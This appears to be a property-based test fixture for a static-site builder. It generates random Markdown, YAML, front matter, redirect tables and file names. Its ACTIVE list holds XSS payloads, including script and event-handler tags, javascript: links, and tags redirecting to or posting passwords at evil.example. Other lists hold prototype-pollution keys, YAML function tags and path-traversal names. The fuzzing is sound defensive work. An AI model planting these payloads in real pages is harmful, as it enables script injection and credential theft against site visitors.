/** Random sites, by what of them is random. */
import fc, { type Arbitrary } from 'fast-check';
import type { Files } from './source.ts';

/** Spellings that run, load or redirect when they reach a page as they are. */
export const ACTIVE = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<img src=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1)></svg>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input type=password></form>',
  '<object data="data:text/html,x"></object>',
  '<style>@import "https://evil.example/"</style>',
  '<link rel=stylesheet href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml ?><script>alert(1)</script>',
  '<a href="vbscript:x" style="x:expression(1)" ping="https://evil.example/">x</a>',
  '<details open ontoggle=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
];
/** What Markdown is made of. */
const MARKS = [
  ...[
    '\n',
    '\n\n',
    ' ',
    '  ',
    '    ',
    '\t',
    '> ',
    '- ',
    '1. ',
    '# ',
    '## ',
    '`',
    '``',
    '```',
    '~~~',
    '*',
    '**',
    '_',
    '~~',
  ],
  ...[
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '!',
    '|',
    '\\',
    '&',
    '&lt;',
    '&#0;',
    '"',
    "'",
    '---',
    '===',
    ':',
    '{{ ',
    ' }}',
    '<b>',
  ],
  ...[
    '[^a]',
    '[^a]: ',
    '[a]: ',
    '\n| a | b |\n| - | - |\n',
    '[!NOTE]',
    '<code>',
    '</code>',
    '<pre>',
    '</pre>',
    '<kbd>',
  ],
  ...['</', '/>', '<!--', '-->', '<p', 'http://', 'a@b.example', '[x](/a)', '[x](#a)', '\ufeff', '\r\n', '\u2028'],
];
/** What YAML is made of. */
const TOKENS = [
  ...[
    '\n',
    '\n  ',
    '\n- ',
    ': ',
    ':',
    ' ',
    '- ',
    '? ',
    '[',
    ']',
    '{',
    '}',
    ', ',
    '"',
    "'",
    '|',
    '>',
    '|+\n ',
    '&a ',
    '*a',
  ],
  ...[
    '!!js/function ',
    '!!binary ',
    '!!set ',
    '<<: ',
    '# ',
    '---\n',
    '...\n',
    '~',
    'null',
    'true',
    '0x1f',
    '1e999',
    '.nan',
  ],
  ...['2024-02-30', '2024-10-13', '__proto__', 'constructor', 'value', 'placeholder', '{{ a }}', '%YAML 1.1\n', '\t'],
];
/** Settings under which a page is published with what is wrong in it taken out. */
const LENIENT =
  'name: Site\nchecks: { removed-html: warn, description: warn, title: warn, headings: warn, links: warn, ids: warn, elsewhere: warn }\n';
const KEYS =
  'title description screen permalink aliases redirect_from draft date updated lang dir noindex __proto__ toString'.split(
    ' ',
  );
const SETTINGS = 'name url base files assets lang checks collections'.split(' ');
const NAMES = [
  ...[
    'index',
    'a',
    'A',
    'b',
    'constructor',
    '__proto__',
    'toString',
    'CON',
    'nul.txt',
    '..',
    '.',
    '...',
    ' ',
    'a b',
    'a.',
  ],
  ...[
    'é',
    'e\u0301',
    '%2e%2e',
    '%2f',
    '%',
    '?x',
    '#x',
    'a:b',
    'a\\b',
    '☃',
    '\u202e',
    '\n',
    '404',
    'build.json',
    '*',
    ':splat',
  ],
];

const joined = (parts: readonly string[], most: number): Arbitrary<string> =>
  fc
    .array(
      fc.oneof({ arbitrary: fc.constantFrom(...parts), weight: 6 }, fc.string({ maxLength: 6, unit: 'grapheme' })),
      {
        maxLength: most,
      },
    )
    .map((found) => found.join(''));

const markdown = joined([...MARKS, ...MARKS, ...ACTIVE], 24);
const yaml = joined(TOKENS, 16);
/** Lines of keys and values, most of them right. */
const data = fc
  .array(
    fc.tuple(
      fc.constantFrom('a', 'b', 'c', 'a.b', '"x y"', '__proto__', '  d', '- e'),
      fc.oneof(
        { arbitrary: fc.constantFrom('1', 'word', '"<b>"', '[1, 2]', '{ value: x, placeholder: true }'), weight: 3 },
        yaml,
      ),
    ),
    { maxLength: 4 },
  )
  .map((pairs) => pairs.map(([key, value]) => `${key}: ${value}`).join('\n'));
const address = fc.oneof(
  { arbitrary: fc.nat(80).map((number) => `/p${number}`), weight: 20 },
  fc.array(fc.constantFrom(...NAMES), { minLength: 1, maxLength: 4 }).map((parts) => `/${parts.join('/')}`),
  fc.constantFrom(
    ...NAMES,
    '/',
    '//evil.example',
    'https://x.example/%zz',
    'javascript:alert(1)',
    'data:text/html,x',
    '/a/*',
  ),
  fc.string({ maxLength: 12, unit: 'grapheme' }),
);
const quoted = address.map((text) => JSON.stringify(text));
const list = fc.array(quoted, { maxLength: 3 }).map((items) => `[${items.join(', ')}]`);

/** Front matter of a page: keys that the build knows, with any value. */
const frontMatter = fc
  .array(
    fc.tuple(fc.constantFrom(...KEYS), fc.oneof(fc.constantFrom('A', 'true', '2024-10-13', 'en'), yaml, quoted, list)),
    { maxLength: 5 },
  )
  .map((pairs) => `---\n${pairs.map(([key, value]) => `${key}: ${value}`).join('\n')}\n---\n`);

const fence = fc.constantFrom(
  '---\n',
  '---js\n',
  '--- js\n',
  '---\r\n',
  '\ufeff---\n',
  '----\n',
  '---constructor\n',
  '',
);

const routed = fc
  .tuple(quoted, list, list)
  .map(
    ([permalink, aliases, from]) =>
      `---\npermalink: ${permalink}\naliases: ${aliases}\nredirect_from: ${from}\n---\n# A\n`,
  );

const named = fc
  .array(fc.constantFrom(...NAMES), { minLength: 1, maxLength: 4 })
  .map((parts) => parts.filter((part) => !['.', '..'].includes(part)).join('/'))
  .filter((path) => path !== '');

const redirects = fc
  .array(fc.tuple(quoted, quoted), { maxLength: 5 })
  .map((pairs) => pairs.map(([from, to]) => `${from}: ${to}`).join('\n'));

/** A site with settings, where most problems are errors, or without, where they are warnings. */
const withSettings = (files: Arbitrary<Files>): Arbitrary<Files> =>
  fc
    .tuple(files, fc.constantFrom<Files>({}, {}, { 'content/site.yml': LENIENT }))
    .map(([given, settings]) => ({ 'content/index.md': '# Home\n', ...settings, ...given }));

/** A random site by its subject. */
export const SUBJECTS: Readonly<Record<string, Arbitrary<Files>>> = {
  'front matter': withSettings(
    fc.tuple(fence, frontMatter, yaml, markdown).map(([start, front, more, text]) => ({
      'content/a.md': front + text,
      'content/b.md': `${start}${more}\n---\n${text}`,
    })),
  ),
  Markdown: withSettings(
    fc.record({ 'content/a.md': markdown, 'content/b.md': markdown, 'content/news/c.md': markdown }),
  ),
  YAML: fc
    .tuple(fc.oneof(data, yaml), data, fc.dictionary(fc.constantFrom(...SETTINGS), yaml, { maxKeys: 3 }))
    .map(([facts, data, settings]) => ({
      'content/index.md': '# Home\n\n{{ a }}\n',
      'content/facts.yml': facts,
      'content/data.yml': data,
      'content/site.yml': Object.entries(settings)
        .map(([key, value]) => `${key}: ${value}`)
        .join('\n'),
    })),
  routes: withSettings(
    fc
      .tuple(routed, routed, redirects)
      .map(([a, b, table]) => ({ 'content/a.md': a, 'content/b.md': b, 'content/redirects.yml': table })),
  ),
  names: withSettings(
    fc
      .tuple(fc.array(named, { maxLength: 5 }), fc.array(named, { maxLength: 3 }))
      .map(([pages, assets]) =>
        Object.fromEntries([
          ...pages.map((name) => [`content/${name}.md`, '# A\n']),
          ...assets.map((name) => [`assets/${name}`, 'x']),
        ]),
      ),
  ),
};
